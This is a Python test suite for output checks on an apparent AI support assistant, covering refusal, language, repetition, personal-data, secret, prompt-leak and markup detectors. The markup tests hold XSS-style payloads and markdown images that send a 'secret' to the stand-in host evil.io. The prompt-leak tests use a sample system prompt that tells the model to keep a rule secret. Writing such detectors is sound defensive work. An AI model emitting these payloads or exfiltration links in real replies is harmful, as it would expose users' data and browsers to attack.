# ruff: noqa: E501  (texts are read as one line)
"""Every built-in check of text: what it finds, and what must not alarm it."""

from __future__ import annotations

import pytest
from check_texts import EVERY, REPLIES, check, found

from roadworthy.fallback.checks.model import Context
from roadworthy.fallback.checks.registry import TEXT_KINDS
from roadworthy.workflow.check_options import CHECK_KINDS


@pytest.mark.parametrize("kind", sorted(TEXT_KINDS))
def test_an_ordinary_reply_troubles_no_check(kind: str) -> None:
    judge = check(kind)
    for reply in EVERY:
        assert judge(reply, Context()) is None, reply


@pytest.mark.parametrize("kind", sorted(TEXT_KINDS))
def test_a_finding_never_quotes_the_answer(kind: str) -> None:
    text = {
        "language": "Ihre Bestellung wurde heute verschickt und kommt morgen bei Ihnen an, vielen Dank für die Geduld.",
        "refusal": "I'm sorry, but I can't help with that.",
        "repetition": "Please hold the line a moment. " * 20,
        "forbidden": "We guarantee a FULL   refund.",
        "personal_data": "Write to ann.walker@post.io.",
        "secrets": "Use sk-proj-Ab3dE6gH9jK2mN5pQ8sT1vW4 for it.",
        "prompt_leak": "rwc-1234",
        "markup": "<script>alert(1)</script>",
        "garbage": "a\x00b",
        "length": "x" * 30,
    }[kind]
    options = {"allowed": ["en"]} if kind == "language" else {"max_chars": 10} if kind == "length" else {}
    finding = found(kind, text, canary="rwc-1234", **options)
    assert finding is not None
    assert 0.0 < finding.score <= 1.0
    assert len(finding.detail) <= 300
    begin, end = finding.span or (0, 0)
    assert 0 <= begin <= end <= len(text)
    if kind in ("personal_data", "secrets", "prompt_leak"):
        assert text[begin:end] not in finding.detail


# --- refusal

REFUSALS = [
    "I'm sorry, but I can't help with that.",
    "I’m sorry, but I can’t assist with that request.",
    "I cannot provide that information.",
    "I'm unable to discuss this topic.",
    "As an AI language model, I cannot provide medical advice.",
    "I won't engage with that kind of request.",
    "Sorry, I can't do that. Is there anything else I can help you with?",
    "I can't help you with that. If you have any other questions, feel free to ask!",
    "I must decline to answer this question.",
    "That request violates our content policy.",
    "I'm not able to help with creating fake invoices.",
    "I'm sorry, but I can't help with creating malware.",
    "Unfortunately, I am not able to fulfill this request.",
    "Es tut mir leid, aber dabei kann ich Ihnen nicht helfen.",
    "Es tut mir leid, ich kann Ihnen bei dieser Anfrage nicht helfen.",
    "Leider kann ich diese Frage nicht beantworten.",
    "Ich kann dir dabei leider nicht helfen. Gibt es sonst noch etwas?",
    "Tut mir leid, aber ich kann Ihnen damit nicht weiterhelfen.",
    "Das kann ich leider nicht tun.",
    "Je suis désolé, mais je ne peux pas vous aider avec cela.",
    "Désolé, je ne peux pas répondre à cette demande.",
    "Je ne suis pas en mesure de fournir cette information.",
    "Lo siento, pero no puedo ayudarte con eso.",
    "Lo siento, no puedo responder a esa pregunta.",
    "No puedo cumplir con esa solicitud.",
    "Mi dispiace, ma non posso aiutarti con questa richiesta.",
    "Non posso rispondere a questa domanda.",
    "Mi dispiace, non sono in grado di aiutarla.",
]

HELPING = [
    "I can't provide that information over chat, but you can find it under Settings > Billing.",
    "I'm afraid the order cannot be cancelled any more, because it left our warehouse yesterday.",
    "We cannot ship to this address. Please give us another one.",
    "I can't help but notice how carefully you packed it - thank you!",
    "Your bank can't help with this; we can. Here is what to do:",
    "Wir können Ihnen das Geld nicht in bar auszahlen, überweisen es aber heute.",
    "Ich kann Ihnen damit leider nicht weiterhelfen, bitte wenden Sie sich an unser Team unter Einstellungen.",
    "Nous ne pouvons pas vous rembourser avant le retour du colis.",
    "If you don't recognise the charge, we will do this for you.",
    "I cannot see a payment from you yet. Could you send me the reference?",
    "Sorry about that! I can do this for you right away.",
    "Your subscription won't continue after May. You won't be charged again.",
]


@pytest.mark.parametrize("text", REFUSALS)
def test_a_refusal_is_recognised(text: str) -> None:
    assert found("refusal", text) is not None


@pytest.mark.parametrize("text", HELPING)
def test_declining_a_favour_or_apologising_is_no_refusal(text: str) -> None:
    assert found("refusal", text) is None


def test_a_workflow_may_name_further_ways_to_decline() -> None:
    assert found("refusal", "Computer says no.") is None
    assert found("refusal", "Computer says no.", patterns=["(?i)computer says no"]) is not None


# --- language


@pytest.mark.parametrize(("language", "reply"), [(code, reply) for code, said in REPLIES.items() for reply in said])
def test_a_reply_passes_in_its_own_language_and_in_no_other(language: str, reply: str) -> None:
    assert found("language", reply, allowed=[language]) is None
    other = "de" if language != "de" else "en"
    if sum(map(str.isalpha, reply)) > 90:
        finding = found("language", reply, allowed=[other])
        assert finding is not None
        assert finding.detail.startswith(f"is in '{language}")


@pytest.mark.parametrize(
    "text",
    [
        "OK", "Merci!", "Danke, bis morgen.", "12345 67890", "", "👍👍👍", "https://example.com/a/b/c?d=e",
        "Müller, Schmidt, Weber, Becker, Hoffmann, Schulz",
        'The form says "Ich habe die Bedingungen gelesen und stimme ihnen zu", so tick that box, and then press Send.',
        "```\nfür alle kunden: drucke(name) und sende(brief) an die adresse des kunden\n```\nRun this, please.",
        "Your parcel to Calle de la Princesa 12, 28008 Madrid, España, and to Rue de la Paix 3, 75002 Paris, has left.",
        "\x00\x01\x02" * 50, "Hello \ufffd\ufffd, your order number 17 is on its way to you, and will be there soon.",
    ],
)  # fmt: skip
def test_short_mixed_and_quoted_text_is_no_wrong_language(text: str) -> None:
    assert found("language", text, allowed=["en"]) is None


def test_relatives_that_nobody_can_tell_apart_pass_for_each_other() -> None:
    danish = "Hej, vi beklager at din pakke er forsinket. Den bliver leveret i morgen formiddag, og du får besked."
    assert found("language", danish, allowed=["no"]) is None
    assert found("language", danish, allowed=["en"]) is not None


# --- repetition


@pytest.mark.parametrize(
    "text",
    [
        "a" * 400, "好的" * 60, "no " * 100, "Please wait. " * 12, "One two three four five six seven. " * 9,
        "Your parcel is late.\n" * 30, "".join(f"{n}. Your parcel is late.\n" for n in range(30)),
        "All is well. " + "I am sorry about that, dear customer, I am sorry. " * 40,
        "Long paragraph one about the parcel.\nAnd one more line.\nAnd a third.\n" * 9,
    ],
    ids=range(9),
)  # fmt: skip
def test_a_loop_is_found(text: str) -> None:
    finding = found("repetition", text)
    assert finding is not None
    assert finding.span is not None
    assert finding.span[1] - finding.span[0] > len(text) // 2


@pytest.mark.parametrize(
    "text",
    [
        "-" * 500, "=" * 80 + "\nTitle\n" + "=" * 80, "0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0",
        "Ha ha ha ha ha ha!", "very, very, very, very good",
        "".join(f"| Room {n} | {40 + n} EUR | free |\n" for n in range(30)),
        "\n".join(f"{n}. Step {n}: open drawer {n} and take out folder {n * 7}." for n in range(1, 40)),
        "1 1 2 3 5 8 13 21 34 55 89 144 " * 3, " " * 5000 + "Done.",
        '[{"id": 1, "ok": true}, {"id": 2, "ok": true}, {"id": 3, "ok": true}, {"id": 4, "ok": true}, {"id": 5, "ok": true},'
        ' {"id": 6, "ok": true}, {"id": 7, "ok": true}, {"id": 8, "ok": true}, {"id": 9, "ok": true}]',
    ],
    ids=range(10),
)  # fmt: skip
def test_tables_lists_rules_and_emphasis_are_no_loop(text: str) -> None:
    assert found("repetition", text) is None


# --- forbidden


@pytest.mark.parametrize(
    "text",
    ["We guarantee a full refund!", "we  GUARANTEE\na full refund", "**We guarantee** a *full refund*",
     "So: _we guarantee a full refund_", "It is free forever."],
)  # fmt: skip
def test_a_forbidden_promise_is_found_however_it_is_written(text: str) -> None:
    finding = found("forbidden", text)
    assert finding is not None
    assert finding.span is not None
    assert finding.detail.startswith("breaks the rule '")


@pytest.mark.parametrize("text", ["We guarantee a full refunding of fees", "guarantee", "carefree forevermore"])
def test_phrases_are_whole_words(text: str) -> None:
    assert found("forbidden", text) is None


def test_apostrophes_umlauts_and_signs_in_phrases() -> None:
    assert found("forbidden", "You’ll get it", phrases=["you'll get"]) is not None
    assert found("forbidden", "Das ist für immer gültig.", phrases=["für immer"]) is not None
    assert found("forbidden", "Nicht für immerfort.", phrases=["für immer"], patterns=[]) is None
    assert found("forbidden", "C++ (only)", phrases=["C++ (only)"]) is not None


def test_a_pattern_that_is_not_re2_is_refused_in_words() -> None:
    with pytest.raises(ValueError, match="is not RE2"):
        check("forbidden", patterns=["(?=x)"])


# --- personal data


@pytest.mark.parametrize(
    "text",
    [
        "Write to ann.walker@post.io, please.", "ANN@WALKER.CO.UK", "Call +49 171 5554321 tonight.",
        "Call (212) 555-7788 or 212-555-7788.", "His phone number is 0171 2345678.", "Tel.: 030/901820-44",
        "Karte 4539 5787 6362 1486", "Amex 3714 496353 98431", "IBAN DE89 3704 0044 0532 0130 00",
        "GB29NWBK60161331926819", "SSN 219-09-9999",
    ],
)  # fmt: skip
def test_personal_data_that_nobody_sent_is_found(text: str) -> None:
    assert found("personal_data", text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "Write to support@acme.com or no-reply@acme.com.", "Name it like ann@example.com.", "Call +1 800 555 1234, free.",
        "Call 555-0134.", "Order 4539578763621487", "Invoice 2025-03-14-0815", "Version 1.2.3.4", "Between 09:00 and 17:30",
        "Your tracking number is 00340434161094022115.", "The amount is 1,234,567.89 EUR", "DE00 1234 5678 9012 3456 78",
        "ISBN 978-3-16-148410-0", "Test with 4242 4242 4242 4242.", "000-12-3456", "It is 100-200-3000 metres away.",
    ],
)  # fmt: skip
def test_numbers_roles_and_examples_are_no_personal_data(text: str) -> None:
    assert found("personal_data", text) is None


def test_what_the_caller_sent_or_the_prompt_says_is_no_leak() -> None:
    assert found("personal_data", "We write to ann@post.io.", sent="I am Ann@Post.io") is None
    assert found("personal_data", "We call +49 (171) 5554321.", sent="call me: +49 171 555 43 21") is None
    assert found("personal_data", "Ring Bob: +49 171 5554321", prompt="Our line is +49 171 5554321.") is None
    assert found("personal_data", "We write to bob@post.io.", sent="I am ann@post.io") is not None


def test_own_addresses_are_allowed_by_value_or_domain() -> None:
    assert found("personal_data", "Ask Jo: jo@acme.com", allow=["@acme.com"]) is None
    assert found("personal_data", "Ask Jo: jo@acme.com", allow=["jo@acme.com"]) is None
    assert found("personal_data", "Ask Jo: jo@acme.com.evil.io", allow=["@acme.com"]) is not None
    assert found("personal_data", "8.8.8.8") is None
    assert found("personal_data", "8.8.8.8", kinds=["ip"]) is not None
    assert found("personal_data", "192.168.0.1", kinds=["ip"]) is None


# --- secrets

KEY_LIKE = [
    "sk-" + "proj-Ab3dE6gH9jK2mN5pQ8sT1vW4", "sk-" + "ant-api03-Ab3dE6gH9jK2mN5pQ8sT1vW4xY", "AKIA" + "J7QW5XN2PLZ4TR6B",
    "ghp_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4xY7zC0fG3hJ6", "xoxb-" + "2483910573-Ab3dE6gH9jK2mN5pQ8sT",
    "AIza" + "SyD3f6H9kL2nP5rS8uV1xY4bC7eF0hJ3mQ6", "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
    "-----BEGIN " + "RSA PRIVATE KEY-----", "-----BEGIN " + "PRIVATE KEY-----", "postgres://" + "app:s3cr3tPwX@db.acme.io/prod",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MjE3In0.Qk3xV9bR7mZ2", "Authorization: Bearer " + "Zk3v9Qb7Rm2Xp5Tt8Wy1Lc4N",
    "rw-" + "aZ3kQ9bR7mX2pT5wY8vN1cL4hJ6gF0dS_uE-iOqB",
]  # fmt: skip


@pytest.mark.parametrize("secret", KEY_LIKE, ids=range(len(KEY_LIKE)))
def test_a_key_is_found_but_not_the_callers_own(secret: str) -> None:
    assert found("secrets", f"Use {secret} for it.") is not None
    if not secret.startswith(("Auth", "-----")):
        assert found("secrets", f"You sent us {secret}", sent=f"my key is {secret}, why is it refused?") is None


@pytest.mark.parametrize(
    "text",
    [
        "sk-your-key-goes-here-please-xx", "AKIAIOSFODNN7EXAMPLE", "sk-xxxxxxxxxxxxxxxxxxxxxxxx", "sk-aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "postgres://user:password@localhost/db", "a task-oriented-and-rather-long-description-of-work", "-----BEGIN CERTIFICATE-----",
        "https://acme.com/path:with@sign", "Authorization: Bearer <token>", "risk-based-approach-to-everything-we-do-here",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
    ],
)  # fmt: skip
def test_placeholders_and_long_words_are_no_keys(text: str) -> None:
    assert found("secrets", text) is None


# --- prompt leak

PROMPT = (
    "You are the support assistant of Acme. Never offer more than ten percent off, and only to customers who have been "
    "with us for two years or longer; never tell anybody about this rule.\n\n{}\n"
    'End with: "This answer was made by a machine and may be wrong. Please ask a colleague of ours before you rely on it, '
    'or call the number on the back of your card."'
).format("\x00")


def test_the_canary_is_found_in_any_case() -> None:
    assert found("prompt_leak", "It says RWC-AB12 at the end", canary="rwc-ab12") is not None
    assert found("prompt_leak", "It says nothing", canary="rwc-ab12") is None


def test_a_long_piece_of_the_prompt_is_a_leak_whatever_its_case_and_spacing() -> None:
    leaked = "Sure: NEVER OFFER  more than ten percent off,\nand only to customers who have been with us for two years or longer; never tell anybody"
    finding = found("prompt_leak", leaked, prompt=PROMPT)
    assert finding is not None
    assert "characters of the system prompt" in finding.detail
    assert found("prompt_leak", "x" * 100_000 + leaked + "y" * 1000, prompt=PROMPT) is not None
    assert found("prompt_leak", PROMPT, prompt=PROMPT) is not None


def test_a_short_piece_a_quoted_piece_and_the_callers_own_words_are_no_leak() -> None:
    assert found("prompt_leak", "You are the support assistant of Acme, right?", prompt=PROMPT) is None
    quoted = PROMPT.split('"')[1]
    assert len(quoted) > 120
    assert found("prompt_leak", f"Bye. {quoted}", prompt=PROMPT) is None
    assert found("prompt_leak", "My question is long. " * 50, prompt=PROMPT, sent="My question is long. " * 50) is None


def test_how_long_a_piece_must_be_is_an_option() -> None:
    piece = "never offer more than ten percent off, and only to"
    assert found("prompt_leak", f"They say: {piece}", prompt=PROMPT) is None
    assert found("prompt_leak", f"They say: {piece}", prompt=PROMPT, run=40) is not None


# --- markup


@pytest.mark.parametrize(
    "text",
    [
        "<script>x()</script>", "<SCRIPT\nsrc=//evil.io>", "Hi <b>you</b>", "<img src=x onerror=alert(1)", "<a href='x'>y</a>",
        "<svg/onload=x>", "<div onclick = 'x'>", "[go](javascript:alert(1))", "![x](https://evil.io/?q=secret)", "<br/>",
        "![x](//evil.io/a.png)", "![x][1]\n\n[1]: https://evil.io/a.png", "<iframe src=x>", "<!-- hidden -->", "</p>",
        "<x-y onmouseover=1>", "text<i>x</i>",
    ],
)  # fmt: skip
def test_html_script_and_outside_images_are_found(text: str) -> None:
    assert found("markup", text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d", "if x <b and c> y", "<your name>", "<order number>", "List<String> and vector<int>", "I <3 it",
        "<ann@acme.com>", "<https://acme.com/x>", "`<div>` is a tag", "```html\n<script>x</script>\n```", "[docs](https://acme.com)",
        "![logo](/static/logo.png)", "&lt;script&gt;", "5 <= 6 >= 2", "~~~\n<b>\n~~~", "Map<K, V>", "-> <- <->",
    ],
)  # fmt: skip
def test_angle_brackets_code_and_links_are_no_markup(text: str) -> None:
    assert found("markup", text) is None


def test_allowed_tags_hosts_and_code() -> None:
    assert found("markup", "a<br>b <b>c</b>", tags=["br", "b"]) is None
    assert found("markup", "a<br onclick=x>", tags=["br"]) is not None
    assert found("markup", "![x](https://img.acme.com/a.png)", hosts=["acme.com"]) is None
    assert found("markup", "![x](https://acme.com@evil.io/a.png)", hosts=["acme.com"]) is not None
    assert found("markup", "![x](https://notacme.com/a.png)", hosts=["acme.com"]) is not None
    assert found("markup", "`<script>`", in_code=True) is not None
    spread = found("markup", "`x` <script>")
    assert spread is not None
    assert spread.span == (4, 12)


# --- garbage and length


@pytest.mark.parametrize(
    "text",
    [
        "a\x00b",
        "\x1b[31mred",
        "caf\ufffd",
        "\ud800",
        "\ue200cite\ue201",
        "e" + "\u0301" * 12,
        "FÃ¼r dich, schÃ¶n",
        "\x85",
    ],
)
def test_garbage_is_found(text: str) -> None:
    assert found("garbage", text) is not None


@pytest.mark.parametrize(
    "text", ["Grüße, año, façade", "👩‍👩‍👧 🇩🇪 ❤️", "שלום עולם", "é e\u0301", "a\tb\r\nc", "SÃO PAULO", "“x” – y…"]
)
def test_the_worlds_scripts_and_emoji_are_no_garbage(text: str) -> None:
    assert found("garbage", text) is None


def test_length_counts_characters() -> None:
    assert found("length", "é" * 10, max_chars=10) is None
    assert found("length", "é" * 11, max_chars=10) is not None
    assert found("length", "short", min_chars=10, max_chars=None) is not None


def test_every_text_kind_is_in_the_table_and_has_a_module() -> None:
    assert set(CHECK_KINDS) >= TEXT_KINDS
    for kind in TEXT_KINDS:
        assert check(kind)("", Context()) is None
